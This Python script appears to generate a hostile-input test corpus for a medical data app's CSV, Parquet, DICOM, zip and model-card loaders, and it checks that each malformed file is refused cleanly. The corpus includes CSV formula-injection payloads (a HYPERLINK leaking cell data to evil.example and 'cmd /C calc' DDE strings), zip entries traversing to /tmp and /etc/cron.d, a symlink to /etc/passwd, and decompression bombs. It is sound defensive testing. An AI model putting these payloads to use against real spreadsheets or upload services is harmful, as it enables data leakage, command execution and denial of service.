"""The hostile-input corpus: every file a careless or malicious user could upload, built here.

Each :class:`Case` names a file, the loader it targets, how to build its bytes, and what must
happen: ``expect`` is a regular expression the clean refusal (a ``PrecimedInputError``) must
match, ``None`` when the file must load, ``"*"`` when either a clean refusal or a correct load
is acceptable. Never another exception, never unbounded memory.

The small files are kept beside this script and are what the checks read (``--write``
regenerates them); the large ones (bombs, 4,097 entries) are only ever built in memory.

Usage::

    python tests/data/hostile/make_hostile.py --write          # regenerate the kept files
    python tests/data/hostile/make_hostile.py --check --json   # run every case, print outcomes
    python tests/data/hostile/make_hostile.py --check --limit-mb 2048   # under an address-space cap
"""

from __future__ import annotations

import argparse
import io
import json
import os
import re
import resource
import struct
import sys
import tempfile
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache
from pathlib import Path
from typing import Any

HERE = Path(__file__).resolve().parent
ROOT = HERE.parents[2]
KEEP_MAX_BYTES = 100 * 1024
WDBC = ROOT / "assets" / "models" / "breast-cytology-wdbc"
SAMPLE = ROOT / "assets" / "samples" / "breast-cytology-wdbc.csv"
DATE = (2026, 1, 1, 0, 0, 0)
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A2,"click me")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "＝1+1"]


@dataclass(frozen=True)
class Case:
    name: str
    loader: str  # "table", "dicom" (files and zips), "card"
    build: Callable[[], bytes]
    expect: str | None


# ---------------------------------------------------------------------------------- tables
def _sample_text() -> str:
    return SAMPLE.read_text("utf-8")


def formula_injection() -> bytes:
    lines = _sample_text().splitlines()
    out = ["patient_id,note," + lines[0]]
    def quoted(text: str) -> str:  # RFC 4180: a quote inside a quoted field is doubled
        return '"' + text.replace('"', '""') + '"'

    for k, line in enumerate(lines[1:]):
        out.append(f"{quoted(FORMULAS[k % len(FORMULAS)])},"
                   f"{quoted(FORMULAS[(k + 1) % len(FORMULAS)])},{line}")
    return ("\n".join(out) + "\n").encode("utf-8")


def ten_thousand_columns() -> bytes:
    return (",".join(f"c{i}" for i in range(10_000)) + "\n" + ",".join("1" for _ in range(10_000))
            + "\n").encode()


def byte_order_mark() -> bytes:
    return b"\xef\xbb\xbf" + _sample_text().encode("utf-8")


def semicolons() -> bytes:
    return _sample_text().replace(",", ";").encode()


def semicolons_decimal_comma() -> bytes:
    return _sample_text().replace(",", ";").replace(".", ",").encode()


def latin1() -> bytes:
    lines = _sample_text().splitlines()
    names = ["José Müller", "Zoë Ångström", "François Lefèvre"]
    out = ["name," + lines[0]] + [f"{names[k % 3]},{ln}" for k, ln in enumerate(lines[1:])]
    return ("\n".join(out) + "\n").encode("latin-1")


def utf16() -> bytes:
    return _sample_text().encode("utf-16")


def sniffer_redos() -> bytes:
    return b'",' * 32_768  # csv.Sniffer needed minutes for this; now refused in milliseconds


def nul_bytes() -> bytes:
    text = _sample_text().encode()
    return text[:200] + b"\x00" * 50 + text[200:]


def garbage() -> bytes:
    import random

    rng = random.Random(20261126)
    return bytes(rng.randrange(256) for _ in range(4096))


def _parquet(frame: Any, **kw: Any) -> bytes:
    buf = io.BytesIO()
    frame.to_parquet(buf, **kw)
    return buf.getvalue()


def parquet_rows_bomb() -> bytes:
    import numpy as np
    import pandas as pd

    return _parquet(pd.DataFrame({"a": np.zeros(100_000_000, "int8")}), compression="zstd",
                    row_group_size=50_000_000)


def parquet_text_bomb() -> bytes:
    import pandas as pd

    return _parquet(pd.DataFrame({"mean radius": ["9" * 10_000] * 100_000}), compression="zstd")


def parquet_truncated() -> bytes:
    import pandas as pd

    return _parquet(pd.read_csv(SAMPLE))[:-40]


# ----------------------------------------------------------------------------------- DICOM
@cache
def _ct() -> bytes:
    from pydicom.data import get_testdata_file

    return Path(get_testdata_file("CT_small.dcm", download=False)).read_bytes()


def _ct_dataset() -> Any:
    import pydicom

    return pydicom.dcmread(io.BytesIO(_ct()))


def _save(ds: Any) -> bytes:
    buf = io.BytesIO()
    ds.save_as(buf, enforce_file_format=True)
    return buf.getvalue()


def dicom_truncated_half() -> bytes:
    return _ct()[: len(_ct()) // 2]


def dicom_truncated_in_pixels() -> bytes:
    return _ct()[:-1000]


def _swap_vr(data: bytes, tag: tuple[int, int], vr: bytes) -> bytes:
    needle = struct.pack("<HH", *tag)
    at = data.find(needle, 132)
    return data[: at + 4] + vr + data[at + 6:]


def dicom_wrong_vr_rows() -> bytes:
    return _swap_vr(_ct(), (0x0028, 0x0010), b"DS")  # Rows (US, 2 binary bytes) read as text


def dicom_wrong_vr_name() -> bytes:
    return _swap_vr(_ct(), (0x0010, 0x0010), b"US")  # PatientName read as a number


def dicom_absurd_frames() -> bytes:
    ds = _ct_dataset()
    ds.Rows, ds.Columns, ds.NumberOfFrames = 65535, 65535, 100_000
    ds.PixelData = b"\0" * 64
    return _save(ds)


def dicom_absurd_single() -> bytes:
    ds = _ct_dataset()
    ds.Rows, ds.Columns = 65535, 65535
    ds.PixelData = b"\0" * 64
    return _save(ds)


def dicom_deflate_bomb() -> bytes:
    from pydicom.uid import DeflatedExplicitVRLittleEndian

    ds = _ct_dataset()
    ds.add_new(0x00091010, "OB", b"\0" * (260 << 20))  # just over the 256 MiB limit
    ds.file_meta.TransferSyntaxUID = DeflatedExplicitVRLittleEndian
    return _save(ds)


def dicom_deep_sequence() -> bytes:
    """2,500 nested undefined-length sequences (pydicom cannot even write this: hand-made)."""
    depth = 2500
    open_ = (struct.pack("<HH", 0x0040, 0xA730) + b"SQ\0\0" + b"\xff" * 4
             + struct.pack("<HHI", 0xFFFE, 0xE000, 0xFFFFFFFF))
    close = struct.pack("<HHI", 0xFFFE, 0xE00D, 0) + struct.pack("<HHI", 0xFFFE, 0xE0DD, 0)
    data = _ct()
    at = data.find(struct.pack("<HH", 0x7FE0, 0x0010), 132)
    return data[:at] + open_ * depth + close * depth + data[at:]


def dicom_huge_length() -> bytes:
    data = _ct()
    at = data.find(struct.pack("<HH", 0x7FE0, 0x0010), 132)  # Pixel Data: OW, 4-byte length
    return data[: at + 8] + struct.pack("<I", 0xFFFFFFF0) + data[at + 12: at + 2000]


def not_dicom() -> bytes:
    return b"\x89PNG\r\n\x1a\n" + b"\0" * 200


def structured_report() -> bytes:
    from pydicom.data import get_testdata_file

    return Path(get_testdata_file("test-SR.dcm", download=False)).read_bytes()


def broken_jpeg() -> bytes:
    from pydicom.data import get_testdata_file

    return Path(get_testdata_file("JPEG-lossy.dcm", download=False)).read_bytes()


# ------------------------------------------------------------------------------------- zips
def _zip(entries: list[tuple[str, bytes]], compression: int = zipfile.ZIP_DEFLATED,
         attrs: dict[str, int] | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as zf:
        for name, data in entries:
            info = zipfile.ZipInfo(name, DATE)
            info.compress_type = compression
            if attrs and name in attrs:
                info.create_system, info.external_attr = 3, attrs[name] << 16
            zf.writestr(info, data)
    return buf.getvalue()


def zip_traversal() -> bytes:
    return _zip([("series/IM1.dcm", _ct()), ("../../../../tmp/evil.dcm", _ct())])


def zip_absolute() -> bytes:
    return _zip([("/etc/cron.d/evil.dcm", _ct())])


def zip_symlink() -> bytes:
    return _zip([("series/IM1.dcm", _ct()), ("series/link.dcm", b"/etc/passwd")],
                attrs={"series/link.dcm": 0o120777})


def zip_bomb_ratio() -> bytes:
    return _zip([("IM1.dcm", b"\0" * (64 << 20))])


def _patch_sizes(data: bytes, new_size: int) -> bytes:
    """Rewrite every declared uncompressed size (local headers and central directory)."""
    out = bytearray(data)
    for sig, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        pos = out.find(sig)
        while pos >= 0:
            out[pos + offset: pos + offset + 4] = struct.pack("<I", new_size)
            pos = out.find(sig, pos + 4)
    return bytes(out)


def zip_bomb_lying_header() -> bytes:
    return _patch_sizes(_zip([("IM1.dcm", b"\0" * (64 << 20))]), 1000)


def zip_declares_too_much() -> bytes:
    return _patch_sizes(_zip([(f"IM{k}.dcm", _ct()) for k in range(5)]), 400 << 20)


def zip_too_many_entries() -> bytes:
    return _zip([(f"s/IM{k:05d}.dcm", b"") for k in range(4097)], zipfile.ZIP_STORED)


def zip_nested() -> bytes:
    return _zip([("inner.zip", _zip([("IM1.dcm", _ct())]))])


def zip_encrypted_flag() -> bytes:
    data = bytearray(_zip([("IM1.dcm", _ct())], zipfile.ZIP_STORED))
    for sig, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        pos = data.find(sig)
        data[pos + offset] |= 0x1
    return bytes(data)


def zip_corrupt_directory() -> bytes:
    data = _zip([("IM1.dcm", _ct())])
    return data[:-30] + b"\xff" * 30


# ------------------------------------------------------------------------------------ cards
def _card() -> dict[str, Any]:
    card: dict[str, Any] = json.loads((WDBC / "card.json").read_text("utf-8"))
    return card


def card_deep_nesting() -> bytes:
    return b"[" * 100_000 + b"]" * 100_000


def card_nan_threshold() -> bytes:
    return json.dumps(_card() | {"threshold": float("nan")}).encode()


def card_wrong_types() -> bytes:
    return json.dumps(_card() | {"classes": "benign,malignant", "inputs": {"a": 1}}).encode()


def card_not_utf8() -> bytes:
    return json.dumps(_card(), ensure_ascii=False).encode("utf-16")


CASES: list[Case] = [
    Case("plain.csv", "table", lambda: _sample_text().encode(), None),  # the reference
    Case("formula_injection.csv", "table", formula_injection, None),
    Case("ten_thousand_columns.csv", "table", ten_thousand_columns, r"10000 columns"),
    Case("byte_order_mark.csv", "table", byte_order_mark, None),
    Case("semicolons.csv", "table", semicolons, None),
    Case("semicolons_decimal_comma.csv", "table", semicolons_decimal_comma, r"not a number"),
    Case("latin1.csv", "table", latin1, None),
    Case("utf16.csv", "table", utf16, None),  # decoded (it used to fail as "columns missing")
    Case("sniffer_redos.csv", "table", sniffer_redos, r"columns"),
    Case("nul_bytes.csv", "table", nul_bytes, "*"),
    Case("garbage.csv", "table", garbage, "*"),
    Case("empty.csv", "table", lambda: b"", r"empty"),
    Case("header_only.csv", "table", lambda: b"mean radius,mean texture\n", r"no data rows"),
    Case("parquet_rows_bomb.parquet", "table", parquet_rows_bomb, r"rows ×"),
    Case("parquet_text_bomb.parquet", "table", parquet_text_bomb, r"expand"),
    Case("parquet_truncated.parquet", "table", parquet_truncated, r"not a readable Parquet"),
    Case("truncated_half.dcm", "dicom", dicom_truncated_half, r"truncated|no pixel data|corrupt"),
    Case("truncated_in_pixels.dcm", "dicom", dicom_truncated_in_pixels, r"cannot be decoded"),
    Case("wrong_vr_rows.dcm", "dicom", dicom_wrong_vr_rows, r"invalid|corrupt|incomplete"),
    Case("wrong_vr_patient_name.dcm", "dicom", dicom_wrong_vr_name, "*"),
    Case("absurd_dimensions_frames.dcm", "dicom", dicom_absurd_frames, r"would decode to"),
    Case("absurd_dimensions_single.dcm", "dicom", dicom_absurd_single, r"would decode to"),
    Case("deflate_bomb.dcm", "dicom", dicom_deflate_bomb, r"deflate bomb"),
    Case("deep_sequence.dcm", "dicom", dicom_deep_sequence, "*"),
    Case("huge_element_length.dcm", "dicom", dicom_huge_length, r"truncated|corrupt|no pixel"),
    Case("not_dicom.dcm", "dicom", not_dicom, r"not a DICOM file"),
    Case("empty.dcm", "dicom", lambda: b"", r"not a DICOM|empty"),
    Case("structured_report.dcm", "dicom", structured_report, r"no pixel data"),
    Case("broken_jpeg.dcm", "dicom", broken_jpeg, r"cannot be decoded"),
    Case("path_traversal.zip", "dicom", zip_traversal, r"path traversal"),
    Case("absolute_path.zip", "dicom", zip_absolute, r"outside the archive"),
    Case("symlink.zip", "dicom", zip_symlink, r"symbolic link"),
    Case("zip_bomb_ratio.zip", "dicom", zip_bomb_ratio, r"zip bomb"),
    Case("zip_bomb_lying_header.zip", "dicom", zip_bomb_lying_header, r"damaged|header declares"),
    Case("zip_declares_too_much.zip", "dicom", zip_declares_too_much, r"unpack to|zip bomb"),
    Case("too_many_entries.zip", "dicom", zip_too_many_entries, r"4097 entries"),
    Case("nested.zip", "dicom", zip_nested, r"no image could be loaded"),
    Case("encrypted_entry.zip", "dicom", zip_encrypted_flag, r"encrypted"),
    Case("corrupt_directory.zip", "dicom", zip_corrupt_directory, r"not a readable zip"),
    Case("card_deep_nesting.json", "card", card_deep_nesting, r"not valid JSON"),
    Case("card_nan_threshold.json", "card", card_nan_threshold, r"not a finite number"),
    Case("card_wrong_types.json", "card", card_wrong_types, r"invalid card"),
    Case("card_not_utf8.json", "card", card_not_utf8, r"not valid JSON"),
]


def load(case: Case, data: bytes) -> Any:
    """Run the loader a case targets (what the app and CLI do with such an upload)."""
    if case.loader == "table":
        from precimed.tabular.io import read_table
        from precimed.tabular.validate import validate_table

        return validate_table(read_table(data, case.name), _card())
    if case.loader == "dicom":
        from precimed.dicom import load_bytes

        return load_bytes(data, case.name)
    from precimed.registry import read_bundle

    with tempfile.TemporaryDirectory() as tmp:
        folder = Path(tmp) / "breast-cytology-wdbc"
        folder.mkdir()
        (folder / "card.json").write_bytes(data)
        return read_bundle(folder)


def outcome(case: Case, data: bytes | None = None) -> dict[str, Any]:
    """``{"case", "outcome": ok|refused|crash|wrong, "message", "seconds"}`` for one case."""
    from precimed.errors import PrecimedInputError

    data = case.build() if data is None else data
    start = time.perf_counter()
    try:
        load(case, data)
        kind, message = "ok", ""
    except PrecimedInputError as exc:
        kind, message = "refused", str(exc)
    except MemoryError:
        kind, message = "crash", "MemoryError"
    except Exception as exc:  # noqa: BLE001 - what this corpus exists to find
        kind, message = "crash", f"{type(exc).__name__}: {str(exc)[:300]}"
    seconds = time.perf_counter() - start
    good = kind != "crash" and (
        case.expect == "*" or (case.expect is None and kind == "ok")
        or (case.expect is not None and kind == "refused" and re.search(case.expect, message)))
    return {"case": case.name, "loader": case.loader, "outcome": kind if good else
            ("crash" if kind == "crash" else "wrong"), "message": message[:300],
            "seconds": round(seconds, 4), "bytes": len(data)}


def _resident_bytes() -> int:
    with open("/proc/self/statm") as fh:
        return int(fh.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")


def isolated(case: Case, data: bytes, limit_mb: int = 0) -> dict[str, Any]:
    """:func:`outcome` in a forked child (Linux): its peak RSS above the parent's is measured,
    ``limit_mb`` caps its extra address space, and even a crash in C code is reported."""
    read, write = os.pipe()
    pid = os.fork()
    if pid == 0:  # child
        os.close(read)
        try:
            start = _resident_bytes()
            if limit_mb:
                with open("/proc/self/statm") as fh:
                    vm = int(fh.read().split()[0]) * os.sysconf("SC_PAGE_SIZE")
                cap = vm + (limit_mb << 20)
                resource.setrlimit(resource.RLIMIT_AS, (cap, cap))
            result = outcome(case, data)
            peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024
            result["rss_growth_mb"] = round(max(peak - start, 0) / (1 << 20), 1)
            os.write(write, json.dumps(result).encode())
        finally:
            os._exit(0)
    os.close(write)
    chunks: list[bytes] = []
    while chunk := os.read(read, 1 << 16):
        chunks.append(chunk)
    os.close(read)
    _, status = os.waitpid(pid, 0)
    if chunks:
        result = json.loads(b"".join(chunks))
    else:
        why = (f"killed by signal {os.WTERMSIG(status)}" if os.WIFSIGNALED(status)
               else f"exit status {os.WEXITSTATUS(status)}")
        result = {"case": case.name, "loader": case.loader, "outcome": "crash",
                  "message": f"the loader's process died ({why})", "seconds": None,
                  "bytes": len(data), "rss_growth_mb": None}
    return result


def case_bytes(case: Case) -> bytes:
    """The kept file beside this script if there is one, else the case built in memory."""
    kept = HERE / case.name
    return kept.read_bytes() if kept.is_file() else case.build()


def kept_files() -> dict[str, bytes]:
    """The corpus files small enough to keep in the repository."""
    out = {}
    for case in CASES:
        data = case.build()
        if len(data) <= KEEP_MAX_BYTES:
            out[case.name] = data
    return out


def main(argv: list[str] | None = None) -> int:
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    p.add_argument("--write", action="store_true", help="regenerate the kept files here")
    p.add_argument("--check", action="store_true", help="run every case and report")
    p.add_argument("--limit-mb", type=int, default=0,
                   help="cap this process's extra address space (MiB) before checking")
    p.add_argument("--json", action="store_true")
    args = p.parse_args(argv)
    if args.write:
        for name, data in kept_files().items():
            (HERE / name).write_bytes(data)
    if not args.check:
        return 0
    import numpy  # noqa: F401 - load the libraries before capping, so the cap measures the cases
    import pandas  # noqa: F401
    import pyarrow.parquet  # noqa: F401
    import pydicom  # noqa: F401

    import precimed.dicom  # noqa: F401

    results = [isolated(case, case_bytes(case), args.limit_mb) for case in CASES]
    report = {"cases": len(results),
              "failures": [r for r in results if r["outcome"] in ("crash", "wrong")],
              "max_rss_growth_mb": max(r["rss_growth_mb"] or 0 for r in results), "results": results}
    if args.json:
        json.dump(report, sys.stdout)
        sys.stdout.write("\n")
    else:
        for r in results:
            print(f"{r['outcome']:8} {r['seconds'] or 0:7.3f}s {r['rss_growth_mb'] or 0:7.1f} MiB  "
                  f"{r['case']}: {r['message'][:100]}")
        print(f"{len(results)} cases, {len(report['failures'])} failures, largest RSS growth "
              f"{report['max_rss_growth_mb']} MiB")
    return 1 if report["failures"] else 0


if __name__ == "__main__":
    sys.path.insert(0, str(ROOT))
    raise SystemExit(main())
